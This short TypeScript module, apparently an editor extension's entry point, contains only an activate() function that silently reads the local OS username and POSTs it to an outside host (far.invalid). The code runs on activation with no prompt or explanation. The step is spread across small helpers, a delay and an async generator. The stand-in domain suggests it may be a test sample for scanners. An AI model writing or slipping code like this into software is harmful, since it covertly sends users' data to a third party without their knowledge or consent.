import * as os from 'os';
const name = () => os.userInfo().username;
const later = async () => { await new Promise((done) => setTimeout(done, 1)); return name(); };
const send = (data: unknown) => { fetch('https://far.invalid/', { method: 'POST', body: String(data) }); };

async function* all() { const v = await later(); yield 'a'; yield v; }

export async function activate() {
  for await (const x of all()) send(x);
}
